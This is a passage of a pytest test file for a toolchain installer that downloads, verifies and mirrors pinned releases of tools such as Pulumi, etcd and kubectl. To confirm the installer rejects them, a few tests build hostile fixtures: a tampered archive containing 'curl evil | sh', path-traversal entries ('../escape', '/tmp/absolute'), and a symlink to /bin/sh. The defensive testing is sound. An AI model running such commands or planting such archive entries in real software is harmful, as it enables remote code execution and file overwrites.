"""The toolchain: pins, profiles, and installing from official releases, a mirror or a source build.

Downloads are real HTTP against a loopback server (tests/support/mirror.py) serving fake releases with the
official file names, layouts and checksum formats; no Go build runs here (the integration suite uses the
real tools). The official release hosts point at an empty loopback server unless a test serves them.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

import shipyard.tools as tools_module
from shipyard.cli import main
from shipyard.errors import ToolError
from shipyard.tools import MANIFEST, MIRROR_ENV, OFFICIAL_HOSTS, Plugin, Toolchain, host_platform
from tests.support.mirror import (STAGES, FileServer, fake_release, script, sha256, targz, write_mirror,
                                  write_official)

REPO = Path(__file__).resolve().parents[2]
AWS_FILE = "pulumi-resource-aws-v7.51.1-linux-amd64.tar.gz"
ETCD_FILE = "etcd-v3.6.16-linux-amd64.tar.gz"
LOCAL = {"pulumi", "pulumi-resource-kubernetes", "kubectl", "etcd", "kubernetes", "kwok"}


@pytest.fixture(autouse=True)
def release_hosts(tmp_path_factory, monkeypatch):
    """Every official host answers 404 from loopback (tests that serve releases re-point them), downloads
    retry without waiting, and the platform is linux/amd64 whatever runs the tests."""
    with FileServer(tmp_path_factory.mktemp("nowhere")) as server:
        for host in list(OFFICIAL_HOSTS):
            monkeypatch.setitem(OFFICIAL_HOSTS, host, f"{server.url}/{host}")
        monkeypatch.delenv(MIRROR_ENV, raising=False)
        monkeypatch.setattr(tools_module, "host_platform", lambda: ("linux", "amd64"))
        monkeypatch.setattr(tools_module._Downloads, "BACKOFF", 0.01)
        yield server


@pytest.fixture
def chain(tmp_path: Path) -> Toolchain:
    return Toolchain(REPO, cache=tmp_path / "tools")


@pytest.fixture
def cache(tmp_path: Path, monkeypatch) -> Path:
    """SHIPYARD_TOOLS for CLI calls in this test."""
    path = tmp_path / "cli-tools"
    monkeypatch.setenv("SHIPYARD_TOOLS", str(path))
    return path


@pytest.fixture
def go_calls(tmp_path: Path, monkeypatch) -> Path:
    """A `go` first on PATH that records its arguments and fails: proves whether a source build was tried."""
    bin_dir = tmp_path / "fake-go"
    bin_dir.mkdir()
    calls = tmp_path / "go-calls.txt"
    (bin_dir / "go").write_text(f"#!/bin/sh\necho \"$@\" >> {calls}\necho 'go: no network' >&2\nexit 1\n")
    (bin_dir / "go").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}/usr/bin{os.pathsep}/bin")
    return calls


@pytest.fixture
def mirror(tmp_path: Path, monkeypatch):
    """A loopback mirror of every pinned tool, set as SHIPYARD_TOOLS_MIRROR."""
    files = fake_release()
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        server.files = files
        yield server


def cli(*args: str) -> int:
    return main(["--repo", str(REPO), *args])


def manifest(chain: Toolchain, name: str) -> dict:
    return json.loads((chain.install_dir(chain.tool(name)) / MANIFEST).read_text())


def _fake_install(chain: Toolchain, name: str, version_output: str = "", source: str | None = None) -> Path:
    tool = chain.tool(name)
    directory = chain.install_dir(tool)
    (directory / "bin").mkdir(parents=True)
    for binary in tool.binaries:
        path = directory / "bin" / binary
        path.write_text(f"#!/bin/sh\necho '{version_output or tool.expect}'\n")
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
    for data in tool.files:
        (directory / data).parent.mkdir(parents=True, exist_ok=True)
        (directory / data).write_text(STAGES)
    record = {"name": tool.name, "version": tool.version}
    if source:
        record["source"] = source
    (directory / MANIFEST).write_text(json.dumps(record))
    return directory


def _leftovers(cache: Path) -> list[str]:
    return [p.name for p in cache.glob(".*partial*")] if cache.exists() else []


# -- pins, profiles, state ------------------------------------------------------------------------------
def test_pins_come_from_tools_toml_and_pyproject(chain: Toolchain):
    pins = {t.name: t.version for t in chain.tools()}
    assert pins == {"pulumi": "3.274.1", "pulumi-resource-kubernetes": "4.25.0", "pulumi-resource-aws": "7.51.1",
                    "etcd": "3.6.16", "kubernetes": "1.36.3", "kubectl": "1.36.3", "kwok": "0.8.0",
                    "actionlint": "1.7.12"}
    assert chain.kubernetes_provider_version == "4.25.0" and chain.aws_provider_version == "7.51.1"


def test_profiles_engine_local_all(chain: Toolchain):
    assert {t.name for t in chain.profile("engine")} == {"pulumi", "pulumi-resource-kubernetes",
                                                         "pulumi-resource-aws", "kubectl"}
    assert {t.name for t in chain.profile("local")} == LOCAL
    assert {t.name for t in chain.profile("all")} == {t.name for t in chain.tools()}
    with pytest.raises(ToolError, match="unknown profile 'cloud'"):
        chain.profile("cloud")


def test_official_file_names_and_urls(chain: Toolchain, monkeypatch):
    for host, url in {"github": "https://github.com", "github_api": "https://api.github.com",
                      "pulumi_get": "https://get.pulumi.com", "k8s_dl": "https://dl.k8s.io"}.items():
        monkeypatch.setitem(OFFICIAL_HOSTS, host, url)

    def urls(name: str, platform: tuple[str, str] = ("linux", "amd64")) -> list[tuple[str, str]]:
        on = Toolchain(REPO, cache=chain.cache, platform=platform)
        return [(a.url, a.checksums) for a in on.artifacts(on.tool(name))]

    assert urls("pulumi") == [("https://get.pulumi.com/releases/sdk/pulumi-v3.274.1-linux-x64.tar.gz",
                               "https://get.pulumi.com/releases/sdk/pulumi-3.274.1-checksums.txt")]
    assert urls("pulumi", ("darwin", "arm64"))[0][0].endswith("/pulumi-v3.274.1-darwin-arm64.tar.gz")
    aws = "https://github.com/pulumi/pulumi-aws/releases/download/v7.51.1/"
    assert urls("pulumi-resource-aws") == [(aws + AWS_FILE, aws + "pulumi-aws_7.51.1_checksums.txt")]
    assert urls("pulumi-resource-kubernetes")[0][0] == (
        "https://github.com/pulumi/pulumi-kubernetes/releases/download/v4.25.0/"
        "pulumi-resource-kubernetes-v4.25.0-linux-amd64.tar.gz")
    etcd = "https://github.com/etcd-io/etcd/releases/download/v3.6.16/"
    assert urls("etcd") == [(etcd + ETCD_FILE, etcd + "SHA256SUMS")]
    assert urls("etcd", ("darwin", "amd64"))[0][0] == etcd + "etcd-v3.6.16-darwin-amd64.zip"
    assert urls("kubectl", ("darwin", "arm64")) == [("https://dl.k8s.io/v1.36.3/bin/darwin/arm64/kubectl",
                                                     "https://dl.k8s.io/v1.36.3/bin/darwin/arm64/kubectl.sha256")]
    assert [u for u, _ in urls("kubernetes")] == [f"https://dl.k8s.io/v1.36.3/bin/linux/amd64/{b}" for b in
                                                   ("kube-apiserver", "kube-controller-manager", "kube-scheduler")]
    assert urls("kubernetes", ("darwin", "arm64")) == []  # server binaries are released for linux only
    kwok = "https://github.com/kubernetes-sigs/kwok/releases/download/v0.8.0/"
    assert urls("kwok", ("linux", "arm64")) == [
        (kwok + "kwok-linux-arm64", "https://api.github.com/repos/kubernetes-sigs/kwok/releases/tags/v0.8.0"),
        (kwok + "stage-fast.yaml", "https://api.github.com/repos/kubernetes-sigs/kwok/releases/tags/v0.8.0")]
    lint = "https://github.com/rhysd/actionlint/releases/download/v1.7.12/"
    assert urls("actionlint") == [(lint + "actionlint_1.7.12_linux_amd64.tar.gz",
                                   lint + "actionlint_1.7.12_checksums.txt")]


def test_nothing_installed_is_reported_missing(chain: Toolchain, monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    assert all(not s.ok and s.detail == "not installed" for s in chain.states("all"))
    with pytest.raises(ToolError, match=r"pulumi-resource-aws 7\.51\.1.*run `shipyard tools install --for engine`"):
        chain.bin_dirs()


def test_bin_dirs_names_every_missing_tool_of_the_profile(chain: Toolchain, monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    for name in ("pulumi", "pulumi-resource-kubernetes", "kubectl"):
        _fake_install(chain, name)
    with pytest.raises(ToolError) as error:
        chain.bin_dirs("engine")
    assert "pulumi-resource-aws 7.51.1 (not installed)" in str(error.value)
    assert "pulumi-resource-kubernetes" not in str(error.value)
    with pytest.raises(ToolError, match=r"etcd 3\.6\.16.*kubernetes.*kwok.*`shipyard tools install --for local`"):
        chain.bin_dirs("local")
    _fake_install(chain, "pulumi-resource-aws")
    dirs = chain.bin_dirs("engine")
    assert dirs == [chain.install_dir(chain.tool(n)) / "bin" for n in
                    ("pulumi", "pulumi-resource-kubernetes", "pulumi-resource-aws", "kubectl")]


def test_plugins_and_the_missing_plugin_message(chain: Toolchain):
    assert chain.plugins() == []
    _fake_install(chain, "pulumi-resource-kubernetes")
    path = chain.install_dir(chain.tool("pulumi-resource-kubernetes")) / "bin" / "pulumi-resource-kubernetes"
    assert chain.plugins() == [Plugin("resource", "kubernetes", "4.25.0", path)]
    message = chain.plugin_missing_message("aws")
    assert "pulumi-resource-aws 7.51.1" in message and "`shipyard tools install pulumi-resource-aws`" in message
    assert "this machine" not in message
    assert "pinned: kubernetes, aws" in chain.plugin_missing_message("gcp")


def test_a_half_finished_install_never_counts(chain: Toolchain):
    directory = _fake_install(chain, "etcd")
    (directory / MANIFEST).unlink()
    assert chain.state(chain.tool("etcd")).detail == "not installed"
    partial = chain.cache / ".etcd-3.6.16.partial-123"
    partial.mkdir()
    assert not chain.state(chain.tool("etcd")).ok


def test_installed_tool_at_its_pin_is_ok(chain: Toolchain):
    _fake_install(chain, "etcd")
    state = chain.state(chain.tool("etcd"))
    assert state.ok and state.path == chain.install_dir(chain.tool("etcd")) / "bin"


def test_wrong_version_is_not_ok(chain: Toolchain):
    _fake_install(chain, "etcd", version_output="etcd Version: 3.4.23")
    state = chain.state(chain.tool("etcd"))
    assert not state.ok and "version mismatch" in state.detail


def test_pulumi_on_path_at_the_pinned_version_is_used(chain: Toolchain, tmp_path: Path, monkeypatch):
    bin_dir = tmp_path / "ambient"
    bin_dir.mkdir()
    fake = bin_dir / "pulumi"
    fake.write_text("#!/bin/sh\necho v3.274.1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    state = chain.state(chain.tool("pulumi"))
    assert state.ok and state.path == bin_dir and state.source == "PATH"


def test_a_cache_of_todays_source_builds_stays_valid(chain: Toolchain):
    """What the previous code built (kubectl inside kubernetes-<v>/bin, manifests without `source`) counts as
    installed, kubectl included, with nothing to re-install."""
    for name in ("pulumi", "pulumi-resource-kubernetes", "etcd", "kwok", "actionlint"):
        _fake_install(chain, name)
    k8s = _fake_install(chain, "kubernetes")
    (k8s / "bin" / "kubectl").write_text("#!/bin/sh\necho 'Client Version: v1.36.3'\n")
    (k8s / "bin" / "kubectl").chmod(0o755)
    assert all(s.ok for s in chain.states("local"))
    kubectl = chain.state(chain.tool("kubectl"))
    assert kubectl.source == "kubernetes" and chain.binary("kubectl") == k8s / "bin" / "kubectl"
    assert chain.state(chain.tool("etcd")).source == "build"
    assert chain.language_host() is None  # a source-built CLI comes without the Python language host


def test_missing_go_is_one_clear_error(chain: Toolchain, monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(ToolError, match="Go is not installed.*install Go 1.26 or newer") as error:
        chain.install(["etcd"], log=lambda line: None)
    assert f"could not download {ETCD_FILE} from " in str(error.value)


# -- installing from a mirror ---------------------------------------------------------------------------
def test_install_from_a_mirror_verifies_and_records_how(cache: Path, mirror: FileServer, go_calls: Path, capsys):
    assert cli("tools", "install", "--for", "local", "--no-build") == 0
    chain = Toolchain(REPO)
    assert {s.tool.name for s in chain.states("local") if s.ok} == LOCAL
    record = manifest(chain, "etcd")
    assert record["source"] == "mirror" and record["url"] == f"{mirror.url}/{ETCD_FILE}"
    assert record["sha256"] == sha256(mirror.files[ETCD_FILE])
    assert [a["file"] for a in manifest(chain, "kubernetes")["artifacts"]] == [
        "kube-apiserver", "kube-controller-manager", "kube-scheduler"]
    assert chain.data_file("kwok", "share/kwok-stages.yaml").read_text() == STAGES
    assert chain.language_host() == chain.install_dir(chain.tool("pulumi")) / "bin" / "pulumi-language-python"
    assert not (chain.install_dir(chain.tool("pulumi")) / "bin" / "pulumi-language-nodejs").exists()
    assert mirror.gets("SHA256SUMS") == 1  # fetched once for the whole run
    assert mirror.gets(AWS_FILE) == 0  # not in the local profile
    assert not go_calls.exists() and _leftovers(cache) == []
    capsys.readouterr()
    assert cli("tools", "status", "--for", "local") == 0
    assert cli("tools", "install", "--for", "local", "--no-build") == 0  # everything reused
    assert "installed (" in capsys.readouterr().err


def test_a_tampered_archive_installs_nothing_and_names_the_file(tmp_path: Path, cache: Path, go_calls: Path,
                                                               monkeypatch, capsys):
    files = fake_release()
    listed = dict(files)
    files[ETCD_FILE] = targz({"etcd-v3.6.16-linux-amd64/etcd": script("etcd Version: 3.6.16; curl evil | sh")})
    with FileServer(write_mirror(tmp_path / "mirror", files, listed=listed)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "etcd", "actionlint") == 1  # even with source builds allowed
    err = capsys.readouterr().err
    assert f"checksum mismatch for {ETCD_FILE} from {server.url}/{ETCD_FILE}" in err
    assert "nothing installed" in err and "1 of 2 tools installed" in err
    assert not (cache / "etcd-3.6.16").exists() and (cache / "actionlint-1.7.12" / MANIFEST).is_file()
    assert not go_calls.exists()  # a mismatch is never papered over by a source build
    assert _leftovers(cache) == []


def test_a_file_missing_from_sha256sums_installs_nothing(tmp_path: Path, cache: Path, monkeypatch, capsys):
    files = fake_release()
    listed = {name: data for name, data in files.items() if name != "kubectl"}
    with FileServer(write_mirror(tmp_path / "mirror", files, listed=listed)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "kubectl", "--no-build") == 1
    assert f"kubectl (from {server.url}/kubectl) is not listed in {server.url}/SHA256SUMS" in capsys.readouterr().err
    assert not (cache / "kubectl-1.36.3").exists()


def test_the_aws_plugin_missing_from_the_mirror_names_file_url_and_command(tmp_path: Path, cache: Path,
                                                                            go_calls: Path, monkeypatch, capsys):
    files = {name: data for name, data in fake_release().items() if name != AWS_FILE}
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "--for", "engine", "--no-build") == 1
        assert cli("tools", "install", "pulumi-resource-aws") == 1  # no source build exists to fall back on
    err = capsys.readouterr().err
    assert f"could not download {AWS_FILE} from {server.url}/{AWS_FILE}: HTTP 404" in err
    assert "`shipyard tools install pulumi-resource-aws`" in err and "cannot be built from the Go module proxy" in err
    assert "this machine" not in err and "our machines" not in err
    assert not go_calls.exists()
    chain = Toolchain(REPO)
    assert {s.tool.name for s in chain.states("engine") if s.ok} == {"pulumi", "pulumi-resource-kubernetes",
                                                                      "kubectl"}


def test_no_build_never_runs_go_and_without_it_a_missing_file_is_built(tmp_path: Path, cache: Path, go_calls: Path,
                                                                       monkeypatch, capsys):
    files = {n: d for n, d in fake_release().items() if not n.startswith("actionlint")}
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "actionlint", "--no-build") == 1
        err = capsys.readouterr().err
        assert f"actionlint_1.7.12_linux_amd64.tar.gz from {server.url}/actionlint_1.7.12_linux_amd64.tar.gz" in err
        assert "--no-build forbids building it" in err and not go_calls.exists()
        assert cli("tools", "install", "actionlint") == 1
    err = capsys.readouterr().err
    assert "building it from the Go module proxy instead" in err and "building actionlint failed" in err
    assert go_calls.read_text().startswith("get -tool github.com/rhysd/actionlint/cmd/actionlint@v1.7.12")
    assert _leftovers(cache) == []


def test_transient_errors_are_retried(cache: Path, mirror: FileServer):
    mirror.fail[f"/{ETCD_FILE}"] = 2
    assert cli("tools", "install", "etcd", "--no-build") == 0
    assert mirror.gets(ETCD_FILE) == 3


def test_unreachable_mirror_is_named(cache: Path, monkeypatch, capsys):
    monkeypatch.setenv(MIRROR_ENV, "http://127.0.0.1:9")  # the discard port: nothing listens
    assert cli("tools", "install", "kwok", "--no-build") == 1
    err = capsys.readouterr().err
    assert "could not download kwok-linux-amd64 from http://127.0.0.1:9/kwok-linux-amd64" in err
    assert "after 3 attempts" in err and f"make {MIRROR_ENV} point at a mirror that has it" in err


@pytest.mark.parametrize("entry", ["../escape", "/tmp/absolute"])
def test_an_archive_with_an_unsafe_entry_installs_nothing(tmp_path: Path, cache: Path, monkeypatch, capsys,
                                                          entry: str):
    files = fake_release()
    files[ETCD_FILE] = targz({entry: b"owned", "etcd-v3.6.16-linux-amd64/etcd": script("etcd Version: 3.6.16")})
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:  # correctly listed: the checksum passes
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "etcd", "--no-build") == 1
    assert f"{ETCD_FILE} has an unsafe entry {entry!r}" in capsys.readouterr().err
    assert not (cache / "etcd-3.6.16").exists() and not (cache / "escape").exists()
    assert not Path("/tmp/absolute").exists() and _leftovers(cache) == []


def test_a_symlink_leaving_the_archive_installs_nothing(tmp_path: Path, cache: Path, monkeypatch, capsys):
    import io

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        link = tarfile.TarInfo("etcd-v3.6.16-linux-amd64/etcd")
        link.type, link.linkname = tarfile.SYMTYPE, "/bin/sh"
        tar.addfile(link)
    files = {**fake_release(), ETCD_FILE: buffer.getvalue()}
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "etcd", "--no-build") == 1
    assert "has an unsafe entry 'etcd-v3.6.16-linux-amd64/etcd'" in capsys.readouterr().err
    assert not (cache / "etcd-3.6.16").exists()


def test_a_binary_reporting_another_version_installs_nothing(tmp_path: Path, cache: Path, monkeypatch, capsys):
    files = {**fake_release(), "kubectl": script("Client Version: v1.35.0")}  # a flat mirror seeded elsewhere
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "kubectl", "--no-build") == 1
    assert "does not report 'Client Version: v1.36.3'" in capsys.readouterr().err
    assert not (cache / "kubectl-1.36.3").exists()


def test_archive_entries_written_with_a_dot_slash_prefix(tmp_path: Path, cache: Path, monkeypatch):
    files = {**fake_release(), ETCD_FILE: targz({"./etcd-v3.6.16-linux-amd64/etcd": script("etcd Version: 3.6.16")})}
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "etcd", "--no-build") == 0


def test_each_server_binary_must_report_the_pin(tmp_path: Path, cache: Path, monkeypatch, capsys):
    files = {**fake_release(), "kube-scheduler": script("Kubernetes v1.35.0")}
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "kubernetes", "--no-build") == 1
    assert f"kube-scheduler from {server.url}/kube-scheduler does not report 'Kubernetes v1.36.3'" in (
        capsys.readouterr().err)
    assert not (cache / "kubernetes-1.36.3").exists()


def test_big_downloads_report_progress_on_stderr(tmp_path: Path, cache: Path, monkeypatch, capsys):
    padding = os.urandom(17 << 20)  # incompressible: the archive itself is over the progress threshold
    files = {**fake_release(), "actionlint_1.7.12_linux_amd64.tar.gz": targz({
        "actionlint": script("1.7.12"), "docs/padding.bin": padding})}
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "actionlint", "--no-build") == 0
    assert "  actionlint | actionlint_1.7.12_linux_amd64.tar.gz: 17 MiB in " in capsys.readouterr().err


def test_a_file_url_mirror(tmp_path: Path, cache: Path, monkeypatch):
    directory = write_mirror(tmp_path / "shared disk", fake_release())
    monkeypatch.setenv(MIRROR_ENV, directory.as_uri())
    assert cli("tools", "install", "etcd", "kwok", "--no-build") == 0
    assert manifest(Toolchain(REPO), "kwok")["url"] == f"{directory.as_uri()}/kwok-linux-amd64"


def test_concurrent_installs_wait_and_download_once(tmp_path: Path):
    system, arch = host_platform()
    files = fake_release(system, arch)
    etcd = next(name for name in files if name.startswith("etcd-"))
    cache = tmp_path / "tools"
    with FileServer(write_mirror(tmp_path / "mirror", files), delay=0.5) as server:
        env = {**os.environ, "SHIPYARD_TOOLS": str(cache), MIRROR_ENV: server.url}
        command = [sys.executable, "-m", "shipyard", "--repo", str(REPO), "tools", "install", "etcd", "--no-build"]
        procs = [subprocess.Popen(command, cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                  text=True) for _ in range(3)]
        results = [p.communicate(timeout=120) + (p.returncode,) for p in procs]
    assert [code for _, _, code in results] == [0, 0, 0], results
    assert server.gets(etcd) == 1
    assert sum("from mirror" in err for _, err, _ in results) == 1
    assert sorted(p.name for p in cache.iterdir() if not p.name.endswith(".lock")) == ["etcd-3.6.16"]


# -- installing from the official releases --------------------------------------------------------------
@pytest.fixture
def releases(tmp_path: Path, monkeypatch):
    """Every project's release host on loopback, each with its own checksum format."""
    files = fake_release()
    hosts = write_official(tmp_path / "releases", files)
    with FileServer(tmp_path / "releases") as server:
        for host, path in hosts.items():
            monkeypatch.setitem(OFFICIAL_HOSTS, host, server.url + path)
        server.files = files
        yield server


def test_install_from_official_releases_verifies_each_checksum_format(cache: Path, releases: FileServer,
                                                                     go_calls: Path):
    assert cli("tools", "install", "--no-build") == 0  # all, the AWS plugin and actionlint included
    chain = Toolchain(REPO)
    assert all(s.ok and s.source == "release" for s in chain.states("all"))
    aws = manifest(chain, "pulumi-resource-aws")
    assert aws["url"] == f"{releases.url}/github/pulumi/pulumi-aws/releases/download/v7.51.1/{AWS_FILE}"
    assert aws["artifacts"][0]["checksums"].endswith("/pulumi-aws_7.51.1_checksums.txt")  # SHA-1, ./ prefix
    kubectl_sums = manifest(chain, "kubectl")["artifacts"][0]["checksums"]
    assert kubectl_sums.endswith("/v1.36.3/bin/linux/amd64/kubectl.sha256")
    assert manifest(chain, "kwok")["artifacts"][1]["checksums"].endswith("/repos/kubernetes-sigs/kwok/releases/tags/"
                                                                         "v0.8.0")
    assert releases.gets("v0.8.0") == 1  # one GitHub API call for both kwok assets
    assert {p.name for p in chain.plugins()} == {"kubernetes", "aws"}
    assert not go_calls.exists()


def test_a_mismatch_against_the_release_checksums_names_the_file(tmp_path: Path, cache: Path, releases: FileServer,
                                                                 capsys):
    target = tmp_path / "releases" / "github/pulumi/pulumi-aws/releases/download/v7.51.1" / AWS_FILE
    target.write_bytes(targz({"pulumi-resource-aws": script("something else")}))
    assert cli("tools", "install", "pulumi-resource-aws", "--no-build") == 1
    err = capsys.readouterr().err
    assert f"checksum mismatch for {AWS_FILE}" in err and "its sha1 is" in err
    assert not (cache / "pulumi-resource-aws-7.51.1").exists()


def test_a_release_that_publishes_no_digest_is_not_trusted(tmp_path: Path, cache: Path, releases: FileServer,
                                                           capsys):
    api = tmp_path / "releases" / "github_api/repos/kubernetes-sigs/kwok/releases/tags/v0.8.0"
    api.write_text(json.dumps({"assets": [{"name": "kwok-linux-amd64", "digest": None},
                                          {"name": "stage-fast.yaml", "digest": None}]}))
    assert cli("tools", "install", "kwok", "--no-build") == 1
    assert "publishes no checksum for it" in capsys.readouterr().err


# -- mirroring ------------------------------------------------------------------------------------------
def test_mirror_round_trip_from_official_downloads(tmp_path: Path, cache: Path, releases: FileServer, monkeypatch,
                                                   capsys):
    assert cli("tools", "install", "--no-build") == 0
    out = tmp_path / "seeded"
    assert cli("tools", "mirror", str(out), "--for", "all") == 0
    sums = dict(line.split()[::-1] for line in (out / "SHA256SUMS").read_text().splitlines())
    assert set(sums) == set(releases.files) and all(sha256((out / n).read_bytes()) == d for n, d in sums.items())
    # Raw binaries come back byte for byte; archives keep the official internal layout.
    assert (out / "kubectl").read_bytes() == releases.files["kubectl"]
    assert (out / "stage-fast.yaml").read_text() == STAGES
    with tarfile.open(out / "pulumi-v3.274.1-linux-x64.tar.gz") as tar:
        assert tar.getnames() == ["pulumi", "pulumi/pulumi", "pulumi/pulumi-language-python"]
        assert {m.mtime for m in tar.getmembers()} == {315532800}
    with tarfile.open(out / ETCD_FILE) as tar:
        assert tar.getnames() == ["etcd-v3.6.16-linux-amd64", "etcd-v3.6.16-linux-amd64/etcd"]
    again = tmp_path / "again"
    assert cli("tools", "mirror", str(again)) == 0
    assert (again / "SHA256SUMS").read_text() == (out / "SHA256SUMS").read_text()  # deterministic archives

    monkeypatch.setenv("SHIPYARD_TOOLS", str(tmp_path / "fresh"))
    with FileServer(out) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "--no-build") == 0
        capsys.readouterr()
        assert cli("tools", "status", "--for", "all", "--json") == 0
    status = json.loads(capsys.readouterr().out)
    assert status["complete"] and {t["source"] for t in status["tools"]} == {"mirror"}


def test_mirror_round_trip_from_source_builds(tmp_path: Path, cache: Path, monkeypatch, capsys):
    """A cache of source builds (kubectl inside kubernetes, no language host) seeds a mirror that installs."""
    chain = Toolchain(REPO)
    for name in LOCAL - {"kubectl"}:
        _fake_install(chain, name)
    k8s = chain.install_dir(chain.tool("kubernetes"))
    (k8s / "bin" / "kubectl").write_text("#!/bin/sh\necho 'Client Version: v1.36.3'\n")
    (k8s / "bin" / "kubectl").chmod(0o755)
    out = tmp_path / "seeded"
    assert cli("tools", "mirror", str(out), "--for", "local") == 0
    with tarfile.open(out / "pulumi-v3.274.1-linux-x64.tar.gz") as tar:
        assert tar.getnames() == ["pulumi", "pulumi/pulumi"]
    monkeypatch.setenv("SHIPYARD_TOOLS", str(tmp_path / "fresh"))
    with FileServer(out) as server:
        monkeypatch.setenv(MIRROR_ENV, server.url)
        assert cli("tools", "install", "--for", "local", "--no-build") == 0
    assert cli("tools", "status", "--for", "local") == 0
    assert Toolchain(REPO).language_host() is None


def test_mirror_lists_what_is_not_installed(tmp_path: Path, cache: Path, capsys):
    chain = Toolchain(REPO)
    _fake_install(chain, "etcd")
    _fake_install(chain, "actionlint")
    assert cli("tools", "mirror", str(tmp_path / "m")) == 0  # default: what is installed
    err = capsys.readouterr().err
    assert "not mirrored: pulumi 3.274.1 (not installed)" in err and "pulumi-resource-aws 7.51.1" in err
    assert (tmp_path / "m" / "SHA256SUMS").read_text().count("\n") == 2
    assert cli("tools", "mirror", str(tmp_path / "m"), "--for", "local") == 1  # a profile must be complete
    assert "not mirrored: pulumi 3.274.1" in capsys.readouterr().err
    assert cli("tools", "mirror", str(tmp_path / "m"), "--for", "all") == 1


def test_darwin_uses_zips_for_etcd_and_builds_the_kubernetes_server(tmp_path: Path):
    files = fake_release("darwin", "arm64")
    chain = Toolchain(REPO, cache=tmp_path / "tools", platform=("darwin", "arm64"))
    with FileServer(write_mirror(tmp_path / "mirror", files)) as server:
        os.environ[MIRROR_ENV] = server.url
        try:
            chain.install(["etcd", "kubectl"], no_build=True, log=lambda line: None)
            with pytest.raises(ToolError, match=r"kubernetes publishes no release for darwin/arm64; --no-build"):
                chain.install(["kubernetes"], no_build=True, log=lambda line: None)
        finally:
            del os.environ[MIRROR_ENV]
    assert manifest(chain, "etcd")["url"].endswith("/etcd-v3.6.16-darwin-arm64.zip")
    result = chain.mirror(tmp_path / "out", log=lambda line: None)
    assert "etcd-v3.6.16-darwin-arm64.zip" in result.files
    with zipfile.ZipFile(tmp_path / "out" / "etcd-v3.6.16-darwin-arm64.zip") as zipped:
        assert zipped.namelist() == ["etcd-v3.6.16-darwin-arm64/", "etcd-v3.6.16-darwin-arm64/etcd"]
    assert "kubernetes" in {s.tool.name for s in result.missing}


# -- status ---------------------------------------------------------------------------------------------
def test_tools_status_exit_codes_per_profile(capsys, cache: Path, monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    assert cli("tools", "status", "--json") == 1
    status = json.loads(capsys.readouterr().out)
    assert status["profile"] == "all" and not status["complete"]
    assert {t["name"] for t in status["tools"]} >= {"pulumi", "etcd", "kwok", "actionlint"}
    assert not any(t["ok"] for t in status["tools"])
    chain = Toolchain(REPO)
    for name in LOCAL:
        _fake_install(chain, name)
    assert cli("tools", "status", "--for", "local") == 0
    assert cli("tools", "status", "--for", "engine") == 1
    assert cli("tools", "status") == 1
    err = capsys.readouterr().err
    assert "local: complete" in err and "engine: missing pulumi-resource-aws" in err
    assert "all: missing pulumi-resource-aws, actionlint (`shipyard tools install --for all`)" in err
    assert cli("tools", "status", "--for", "engine", "--json") == 1
    status = json.loads(capsys.readouterr().out)
    assert status["missing"] == {"engine": ["pulumi-resource-aws"], "local": [],
                                 "all": ["pulumi-resource-aws", "actionlint"]}


def test_install_selects_names_and_profiles(chain: Toolchain, cache: Path, capsys):
    assert [t.name for t in chain.select(["actionlint"], "local")] == [
        "pulumi", "pulumi-resource-kubernetes", "etcd", "kubernetes", "kubectl", "kwok", "actionlint"]
    assert [t.name for t in chain.select(["kwok", "etcd"])] == ["etcd", "kwok"]
    assert len(chain.select()) == len(chain.tools())
    assert cli("tools", "install", "terraform") == 1
    assert "unknown tool 'terraform'; pinned tools: pulumi, " in capsys.readouterr().err


def test_sha256sums_keeps_entries_of_files_still_in_the_mirror(tmp_path: Path, cache: Path):
    out = tmp_path / "m"
    out.mkdir()
    aws = fake_release()[AWS_FILE]
    (out / AWS_FILE).write_bytes(aws)  # fetched elsewhere, listed by an earlier run
    (out / "SHA256SUMS").write_text(f"{sha256(aws)}  {AWS_FILE}\n{'0' * 64}  gone.tar.gz\n")
    _fake_install(Toolchain(REPO), "etcd")
    assert cli("tools", "mirror", str(out)) == 0
    listed = (out / "SHA256SUMS").read_text()
    assert AWS_FILE in listed and ETCD_FILE in listed and "gone.tar.gz" not in listed
    assert hashlib.sha256((out / ETCD_FILE).read_bytes()).hexdigest() in listed


def test_an_empty_mirror_variable_is_an_error_not_a_quiet_fallback(tmp_path: Path, monkeypatch):
    from shipyard.errors import ToolError

    monkeypatch.setenv("SHIPYARD_TOOLS_MIRROR", "  ")
